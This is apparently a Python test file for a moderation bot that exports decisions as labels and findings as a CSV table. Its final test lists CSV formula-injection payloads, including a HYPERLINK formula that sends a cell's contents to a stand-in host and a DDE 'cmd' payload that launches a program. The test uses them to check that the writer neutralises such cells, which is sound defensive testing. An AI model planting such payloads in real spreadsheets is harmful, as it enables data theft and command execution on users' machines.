"""What leaves the store for elsewhere: decisions as labelled threads, and findings as a table."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from adapters.saved.threads import read_threads
from bench.decided import measure
from bot.decisions import decide, undo
from bot.labels import write_labels
from bot.report.table import write_table
from bot.store.database import Store
from bot.store.listing import listed
from bot.store.tables import findings
from tests.stored import FIRST, FISH, LINK, NOON, PILOT, QUOTED, Blog, comment

UNATTRIBUTED = "unattributed-quote"


def say(store: Store, rule: str, verdict: Any, reason: Any = None, **rest: Any) -> int:
    with store.write() as connection:
        number = connection.execute(select(findings.c.id).where(findings.c.rule == rule)).scalars().first()
        return decide(connection, number, verdict, moderator="ada", now=NOON, reason=reason, **rest).decision.id


def labels(store: Store, folder: Path) -> list[dict[str, Any]]:
    with store.read() as connection:
        write_labels(connection, folder)
    return [json.loads(line) for line in (folder / "labels.jsonl").read_text("utf-8").splitlines()]


@pytest.mark.parametrize(
    ("verdict", "reason", "label"),
    [
        ("confirmed", None, {"kind": "quotation", "verdict": "unattributed", "source": "comment:1"}),
        ("dismissed", "attributed", {"kind": "quotation", "verdict": "attributed", "source": "comment:1"}),
        ("dismissed", "wrong-source", {"kind": "quotation", "verdict": "unattributed", "source": "unknown"}),
        ("dismissed", "allowed-here", {"kind": "quotation", "verdict": "unattributed", "source": "comment:1"}),
        ("dismissed", "not-a-quotation", {"kind": "not-quotation"}),
        ("dismissed", "other", None),
        ("dismissed", None, None),
    ],
)
def test_a_decision_on_a_quotation_becomes_what_it_says_for_certain(
    store: Store, tmp_path: Path, verdict: str, reason: str | None, label: dict[str, str] | None
) -> None:
    Blog(store).take(FIRST, PILOT, QUOTED)
    say(store, UNATTRIBUTED, verdict, reason)
    *passages, thread = labels(store, tmp_path / "out")
    if label is None:
        assert passages == []
    else:
        (line,) = passages
        assert (line["thread"], line["comment"]) == ("000001", "5")
        (passage,) = line["passages"]
        assert passage.items() >= {"text": FISH, "form": "marks", **label}.items()
    (decided,) = thread["decided"]
    assert (decided["comment"], decided["rule"], decided["verdict"], decided["reason"]) == (
        "5",
        UNATTRIBUTED,
        verdict,
        reason,
    )


def test_links_and_threads_are_written_in_the_native_format(store: Store, tmp_path: Path) -> None:
    Blog(store).take(FIRST, PILOT, LINK, QUOTED)
    say(store, "link-only", "confirmed")
    (thread,) = labels(store, tmp_path / "out")
    assert (thread["link_only"], thread["off_topic"], thread["copied"]) == (["4"], [], [])
    path = str(tmp_path / "out" / "threads" / "000001.json")
    (saved,) = read_threads(path, on_notice=print, on_bytes=lambda count: None)
    assert [one.id for one in saved.comments] == ["1", "2", "4", "5"]


def test_what_was_taken_back_or_edited_or_deleted_since_is_no_label(store: Store, tmp_path: Path) -> None:
    blog = Blog(store)
    blog.take(FIRST, PILOT, LINK, QUOTED)
    other = say(store, UNATTRIBUTED, "dismissed", "other")
    second = say(store, UNATTRIBUTED, "dismissed", "attributed", replace=True)
    with store.write() as connection:
        undo(connection, second, moderator="ada", now=NOON)
    (thread,) = labels(store, tmp_path / "first")
    assert [one["reason"] for one in thread["decided"]] == ["other"]
    with store.write() as connection:
        undo(connection, other, moderator="ada", now=NOON)
    assert labels(store, tmp_path / "second") == []
    say(store, UNATTRIBUTED, "confirmed")
    say(store, "link-only", "confirmed")
    blog.take(comment("5", QUOTED.body + " Twice.", author="Marguerite"), deleted=["4"])
    assert labels(store, tmp_path / "third") == []


def test_a_folder_that_holds_something_is_left_alone(store: Store, tmp_path: Path) -> None:
    (tmp_path / "out" / "threads").mkdir(parents=True)
    with store.read() as connection, pytest.raises(FileExistsError):
        write_labels(connection, tmp_path / "out")


def test_the_rules_are_scored_on_what_was_decided(store: Store, tmp_path: Path) -> None:
    Blog(store).take(FIRST, PILOT, LINK, QUOTED)
    say(store, UNATTRIBUTED, "confirmed")
    say(store, "link-only", "dismissed", "allowed-here")
    labels(store, tmp_path / "out")
    link, quote = measure(tmp_path / "out")
    assert (quote["rule"], quote["kept"], quote["precision"], quote["recall"]) == (UNATTRIBUTED, 1, 1.0, 1.0)
    assert (link["rule"], link["kept_dismissed"], link["precision"], link["recall"]) == ("link-only", 1, 0.0, None)


FORMULAS = [
    '=HYPERLINK("https://spam.example?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '"=1+1',
    "'=1+1",
    "|calc",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(store: Store, text: str) -> None:
    Blog(store).take(comment("4", "https://bridges.example/report.pdf", author=text, url=text))
    with store.read() as connection:
        records = list(listed(connection, only_open=False))
    for record in records:
        record["excerpt"] = record["message"] = record["thread"]["title"] = text
        record["source"] = {"kind": "comment", "id": text, "author": text, "url": text}
    file = io.StringIO(newline="")
    write_table(records, file)
    head, row = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert len(head) == len(row)
    assert all(cell.isascii() or cell[0] not in "＝＋－＠" for cell in row if cell)
    assert [cell for cell in row if cell.lstrip(' \t\r\n\ufeff\ufffd"')[:1] in tuple("=+-@|%＝")] == []
    assert dict(zip(head, row, strict=True))["rule"] == "link-only"
